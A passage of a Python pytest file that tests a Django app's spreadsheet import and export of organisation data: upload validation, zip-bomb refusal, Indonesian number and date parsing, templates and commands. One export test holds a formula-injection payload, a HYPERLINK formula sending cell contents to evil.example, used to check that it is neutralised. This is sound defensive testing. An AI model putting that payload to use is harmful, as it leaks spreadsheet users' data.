    with zipfile.ZipFile(damaged, "w") as archive:
        archive.writestr("[Content_Types].xml", "<nope")
        archive.writestr("xl/workbook.xml", "<nope")

    cases = {
        "empty.xlsx": b"",
        "junk.xlsx": os.urandom(4096),
        "old.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "notes.zip": buffer.getvalue(),
        "damaged.xlsx": damaged.getvalue(),
    }
    messages = {
        name: [str(e) for e in rejected(organisation, admin, data, name).row_errors]
        for name, data in cases.items()
    }

    assert messages == {
        "empty.xlsx": ["The file is empty."],
        "junk.xlsx": [
            "“junk.xlsx” is not an Excel workbook (.xlsx) or a zip of CSV files. Download "
            "the template from this page, fill it in and upload it."
        ],
        "old.xls": [
            "This is an old Excel 97-2003 (.xls) file. Save it as an Excel workbook "
            "(.xlsx) and upload that."
        ],
        "notes.zip": [
            "“notes.zip” is not an Excel workbook (.xlsx) or a zip of CSV files. Download "
            "the template from this page, fill it in and upload it."
        ],
        "damaged.xlsx": [
            "The Excel workbook could not be read; it may be damaged. Open it in a "
            "spreadsheet program, save it again as .xlsx and retry."
        ],
    }


@override_settings(RANTAI_IMPORT_MAX_BYTES=64 * 1024)
def test_a_zip_bomb_is_refused_by_its_unpacked_size(blank):
    organisation, admin = blank
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("units.csv", b"code,name\n" + b" " * (2 * 1024 * 1024))
    assert len(buffer.getvalue()) < 64 * 1024

    refusal = rejected(organisation, admin, buffer.getvalue(), "bomb.zip")

    assert refusal.row_errors == [
        RowError(
            "",
            None,
            "",
            "The file unpacks to 2.0 MB, more than the 1.6 MB allowed. It is refused as a "
            "possible zip bomb; split it into smaller files.",
        )
    ]


def test_a_sheet_with_too_many_rows_is_refused(blank, monkeypatch):
    organisation, admin = blank
    monkeypatch.setattr(parsing, "MAX_ROWS_PER_SHEET", 3)
    rows = [["code", "name"], *[[f"U{i}", f"Unit {i}"] for i in range(4)]]

    refusal = rejected(organisation, admin, xlsx({"units": rows}))

    assert refusal.row_errors == [
        RowError(
            "units",
            None,
            "",
            "The sheet has more than 3 rows; split it into several files.",
        )
    ]


# --- cells in Indonesian and other formats -------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("1.234,5", Decimal("1234.5")),
        ("1234,5", Decimal("1234.5")),
        ("2,5", Decimal("2.5")),
        ("1,234.5", Decimal("1234.5")),
        ("1,234,567", Decimal("1234567")),
        ("1.234.567", Decimal("1234567")),
        ("1.234", Decimal("1234")),
        ("1.5", Decimal("1.5")),
        ("0,25", Decimal("0.25")),
        ("-3", Decimal("-3")),
        ("  12 345,00 ", Decimal("12345.00")),
        (7, Decimal("7")),
        (2.5, Decimal("2.5")),
    ],
)
def test_parse_decimal_understands_indonesian_and_english_numbers(text, number):
    assert parse_decimal(text) == number


@pytest.mark.parametrize(
    "text", ["abc", "1,2,3", "12,34.5", "1.23.4", "", "1,5,", True]
)
def test_parse_decimal_refuses_what_is_not_a_number(text):
    with pytest.raises(CellError):
        parse_decimal(text)


def test_parse_int_takes_whole_numbers_only():
    assert (parse_int("3"), parse_int("3,0"), parse_int(4.0), parse_int("1.000")) == (
        3,
        3,
        4,
        1000,
    )
    with pytest.raises(CellError, match="is not a whole number"):
        parse_int("1,5")


@pytest.mark.parametrize(
    ("value", "day"),
    [
        ("17/08/2026", dt.date(2026, 8, 17)),
        ("7/8/2026", dt.date(2026, 8, 7)),
        ("17-08-2026", dt.date(2026, 8, 17)),
        ("17.08.2026", dt.date(2026, 8, 17)),
        ("2026-08-17", dt.date(2026, 8, 17)),
        ("17 Agustus 2026", dt.date(2026, 8, 17)),
        ("1 Des 2026", dt.date(2026, 12, 1)),
        (dt.datetime(2026, 8, 17, 9, 30), dt.date(2026, 8, 17)),
        (dt.date(2026, 8, 17), dt.date(2026, 8, 17)),
    ],
)
def test_parse_date_understands_dd_mm_yyyy_and_excel_dates(value, day):
    assert parse_date(value) == day


@pytest.mark.parametrize(
    "value", ["31/02/2026", "08/17/2026", "17/08/26", "besok", 46000]
)
def test_parse_date_refuses_other_forms(value):
    with pytest.raises(CellError):
        parse_date(value)


def test_csv_text_is_read_as_utf_8_or_windows_1252():
    assert parsing.decode_text("\ufeffKopi – Café".encode()) == "Kopi – Café"
    assert parsing.decode_text("Kopi – Café".encode("cp1252")) == "Kopi – Café"


def test_parse_bool_understands_yes_no_ya_tidak():
    assert [parse_bool(v) for v in ("ya", "Tidak", "YES", "no", "", None, 1, 0, True)] == [
        True, False, True, False, False, False, True, False, True,
    ]  # fmt: skip


# --- export -------------------------------------------------------------------------------


def test_the_export_lists_the_organisation_in_the_five_sheets(acme: SmallOrg):
    workbook = load_workbook(io.BytesIO(export_organisation(acme.organisation)))

    sheets = {
        sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in workbook.worksheets
    }

    assert sheets == {
        "units": [
            UNITS_HEADER,
            ["FWD", "Fast Forwarding", None, "external_partner", None, None],
            ["HO", "Head office", None, "internal_unit", None, None],
            ["EXP", "Export", "HO", "internal_unit", None, None],
            ["WH", "Warehouse", "HO", "internal_unit", None, None],
        ],
        "positions": [
            POSITIONS_HEADER,
            ["DIR", "Director", "HO", None, 1, None],
            ["EXP-HEAD", "Head of export", "EXP", "DIR", 1, None],  # superiors first
            ["EXP-CLERK", "Export clerk", "EXP", "EXP-HEAD", 2, None],
            ["FWD-OPS", "Forwarder operations", "FWD", None, 1, None],
        ],
        "duties": [DUTIES_HEADER, ["EXP-HEAD", "Price shipping", "quotation", None]],
        "people": [
            PEOPLE_HEADER,
            [None, "Budi Santoso", None, None],
            [None, "Joko Susilo", None, "FWD"],
            [None, "Rina Kusuma", None, None],
        ],
        "holders": [
            HOLDERS_HEADER,
            ["EXP-CLERK", None, "Budi Santoso", dt.datetime(2026, 1, 1), None, "no"],
            ["EXP-HEAD", None, "Rina Kusuma", dt.datetime(2026, 1, 1), None, "no"],
            ["FWD-OPS", None, "Joko Susilo", dt.datetime(2026, 1, 1), None, "no"],
        ],
    }
    assert workbook["holders"]["D2"].number_format == "DD/MM/YYYY"


def test_an_export_imports_again_unchanged_and_rebuilds_the_organisation(
    acme: SmallOrg, blank, audit_trail
):
    data = export_organisation(acme.organisation)
    trail = audit_trail(acme.organisation)

    again = import_organisation(
        acme.organisation, actor=acme.admin, file_name="e.xlsx", data=data
    )
    organisation, admin = blank
    rebuilt = import_organisation(
        organisation, actor=admin, file_name="e.xlsx", data=data
    )

    assert (again.changed, again.warnings) == (False, [])
    trail.assert_nothing_new()
    assert rebuilt.created == {
        "units": 4,
        "positions": 4,
        "duties": 1,
        "people": 3,
        "holders": 3,
    }
    assert organisation_rows(organisation) == organisation_rows(acme.organisation)
    assert audit.verify(organisation).ok


def test_text_that_looks_like_a_formula_is_exported_as_inert_text(
    acme: SmallOrg, audit_trail
):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    org.update_person(
        acme.budi, actor=acme.admin, expected_version=None, full_name=evil
    )
    for text in ("+1 tugas", "-hapus", "@SUM(1)", "\tTab"):
        org.create_duty(
            acme.export_head,
            actor=acme.admin,
            title=text.strip(),
            output_unit="x",
            description=text,
        )

    workbook = load_workbook(io.BytesIO(export_organisation(acme.organisation)))

    name = workbook["people"]["B2"]
    assert (name.data_type, name.value) == ("s", "'" + evil)
    holder = workbook["holders"]["C2"]
    assert (holder.data_type, holder.value) == ("s", "'" + evil)
    descriptions = [
        (c.data_type, c.value)
        for (c,) in workbook["duties"].iter_rows(min_row=3, min_col=4, max_col=4)
    ]
    assert descriptions == [
        ("s", "'+1 tugas"), ("s", "'-hapus"), ("s", "'@SUM(1)"), ("s", "'\tTab"),
    ]  # fmt: skip
    # and the quote is taken off again on import: nothing changes (nor do line breaks
    # typed in a browser, nor trailing blanks)
    org.update_duty(
        Duty.objects.get(title="Price shipping"),
        actor=acme.admin,
        expected_version=None,
        description="Line one\r\nline two\n",
    )
    workbook = load_workbook(io.BytesIO(export_organisation(acme.organisation)))
    trail = audit_trail(acme.organisation)
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = import_organisation(
        acme.organisation, actor=acme.admin, file_name="e.xlsx", data=buffer.getvalue()
    )
    assert result.changed is False
    trail.assert_nothing_new()


# --- templates ------------------------------------------------------------------------------


def test_the_xlsx_template_has_instructions_headers_comments_and_an_example(blank):
    workbook = load_workbook(io.BytesIO(template_xlsx()))

    assert workbook.sheetnames == [
        "instructions",
        "units",
        "positions",
        "duties",
        "people",
        "holders",
    ]
    assert [c.value for c in workbook["holders"][1]] == HOLDERS_HEADER
    assert workbook["units"]["A1"].comment.text.startswith(
        "Required. Short unique code"
    )
    assert workbook["holders"]["D2"].value == dt.datetime(2026, 1, 2)
    assert workbook["holders"]["D2"].number_format == "DD/MM/YYYY"
    assert workbook["instructions"]["A1"].value == "How to fill in this workbook"


@pytest.mark.parametrize(
    ("file_name", "make"),
    [("template.xlsx", template_xlsx), ("template.zip", template_csv_zip)],
)
def test_the_templates_import_as_they_are(blank, file_name, make):
    organisation, admin = blank

    result = import_organisation(
        organisation, actor=admin, file_name=file_name, data=make()
    )

    assert (result.created, result.warnings) == (
        {"units": 1, "positions": 1, "duties": 1, "people": 1, "holders": 1},
        [],
    )
    holding = Holding.objects.get(organisation=organisation)
    assert (holding.position.code, holding.person.full_name, holding.start_date) == (
        "KEU-KA", "Siti Rahayu", dt.date(2026, 1, 2),
    )  # fmt: skip


def test_the_csv_template_has_one_file_per_sheet_and_a_readme():
    archive = zipfile.ZipFile(io.BytesIO(template_csv_zip()))

    assert archive.namelist() == [
        "units.csv", "positions.csv", "duties.csv", "people.csv", "holders.csv", "README.txt",
    ]  # fmt: skip
    assert archive.read("holders.csv").decode("utf-8-sig").splitlines() == [
        "position_code,employee_number,full_name,start_date,end_date,acting",
        "KEU-KA,198703152010011001,Siti Rahayu,02/01/2026,,tidak",
    ]


# --- command line -------------------------------------------------------------------------------


def run(command: str, *args: str, **options: Any) -> tuple[str, str]:
    """Run a management command as `rantai` would; return what it printed."""
    out, err = io.StringIO(), io.StringIO()
    call_command(command, *args, stdout=out, stderr=err, **options)
    return out.getvalue(), err.getvalue()


def test_import_org_prints_the_counts(blank, tmp_path):
    organisation, _admin = blank
    path = tmp_path / "organisasi.xlsx"
    path.write_bytes(xlsx(good_sheets()))

    out, err = run("import_org", str(path), org="nusantara", actor="importer")

    assert err.splitlines() == [
        "Reading organisasi.xlsx…", "Checking 16 rows…", "Writing…",
        "Recording the audit trail…", "Done…",
    ]  # fmt: skip
    assert out.splitlines() == [
        "units: 3 were created, 0 were updated, 0 unchanged",
        "positions: 4 were created, 0 were updated, 0 unchanged",
        "duties: 2 were created, 0 were updated, 0 unchanged",
        "people: 3 were created, 0 were updated, 0 unchanged",
        "holders: 4 were created, 0 were updated, 0 unchanged",
    ]
    assert Holding.objects.filter(organisation=organisation).count() == 4


def test_import_org_prints_every_problem_and_exits_1(blank, tmp_path):
    organisation, _admin = blank
    sheets = good_sheets()
    sheets["units"][2][2] = "NONE"
    sheets["holders"][1][3] = "2026/01/02"
    path = tmp_path / "organisasi.xlsx"
    path.write_bytes(xlsx(sheets))
    before = state(organisation)

    err = io.StringIO()
    with pytest.raises(SystemExit) as exit_:
        call_command(
            "import_org", str(path), org="nusantara", actor="importer", stderr=err
        )

    assert exit_.value.code == 1
    assert err.getvalue().splitlines() == [
        "Reading organisasi.xlsx…",
        "Checking 16 rows…",
        "units row 3, column parent_code: No unit has the code “NONE” in this file or in "
        "Rantai.",
        "holders row 2, column start_date: “2026/01/02” is not a date. Write dates as "
        "dd/mm/yyyy, for example 17/08/2026.",
        "The file was not imported: 2 problems were found. Nothing was written.",
    ]
    assert state(organisation) == before


def test_import_org_refuses_a_non_administrator(acme: SmallOrg, tmp_path):
    path = tmp_path / "organisasi.xlsx"
    path.write_bytes(xlsx(good_sheets()))
    before = state(acme.organisation)

    with pytest.raises(CommandError, match="member is not an administrator of acme"):
        call_command("import_org", str(path), org="acme", actor="member")
    with pytest.raises(CommandError, match="auditor is not an administrator of acme"):
        call_command("import_org", str(path), org="acme", actor="auditor")
    with pytest.raises(
        CommandError, match="not a member of an organisation called 'nope'"
    ):
        call_command("import_org", str(path), org="nope", actor="admin")

    assert state(acme.organisation) == before


def test_export_org_writes_a_workbook_that_imports_again(acme: SmallOrg, tmp_path):
    path = tmp_path / "acme.xlsx"

    out, _err = run("export_org", str(path), org="acme")

    assert out.startswith(f"Exported acme to {path} (")
    assert path.read_bytes()[:2] == b"PK"
    result = import_organisation(
        acme.organisation, actor=acme.admin, file_name=path.name, data=path.read_bytes()
    )
    assert result.changed is False


def test_import_org_dry_run_writes_nothing(blank, tmp_path):
    organisation, _admin = blank
    path = tmp_path / "organisasi.xlsx"
    path.write_bytes(xlsx(good_sheets()))
    before = state(organisation)

    out, _err = run(
        "import_org", str(path), org="nusantara", actor="importer", dry_run=True
    )

    assert (
        out.splitlines()[0]
        == "units: 3 would be created, 0 would be updated, 0 unchanged"
    )
    assert out.splitlines()[-1] == "Dry run: nothing was written."
    assert state(organisation) == before


# --- concurrency ----------------------------------------------------------------------------


@pytest.mark.postgres_only
@pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="needs real row locks and concurrent transactions (PostgreSQL)",
)
@pytest.mark.django_db(transaction=True)
def test_an_import_takes_the_audit_lock_last_so_other_writers_are_not_stalled(acme):
    seen: dict[str, bool] = {}

    def other_writer() -> None:
        try:
            organisation = Organisation.objects.get(pk=acme.organisation.pk)
            org.create_party(
                organisation,
                actor=acme.admin,
                kind=PartyKind.INTERNAL_UNIT,
                name="Sales",
                code="SAL",
            )
            seen["committed"] = True
        finally:
            connections.close_all()

    def progress(message: str) -> None:
        # The import's rows are written but its transaction is still open.
        if message == "Recording the audit trail":
            writer = threading.Thread(target=other_writer)
            writer.start()
            writer.join(10)
            seen["finished_in_time"] = not writer.is_alive()

    import_organisation(
        acme.organisation,
        actor=acme.admin,
        file_name="a.xlsx",
        data=xlsx(
            {"units": [["code", "name", "parent_code"], ["QA", "Quality", "HO"]]}
        ),
        progress=progress,
    )

    assert seen == {"committed": True, "finished_in_time": True}
    last = list(
        AuditEvent.objects.filter(organisation=acme.organisation).order_by("-sequence")[
            :3
        ]
    )
    assert [(e.verb, e.target_type) for e in reversed(last)] == [
        (AuditVerb.CREATED, "org.party"),  # SAL, by the other writer
        (AuditVerb.CREATED, "org.party"),  # QA, by the import
        (AuditVerb.IMPORTED, "accounts.organisation"),
    ]
    assert audit.verify(acme.organisation).ok
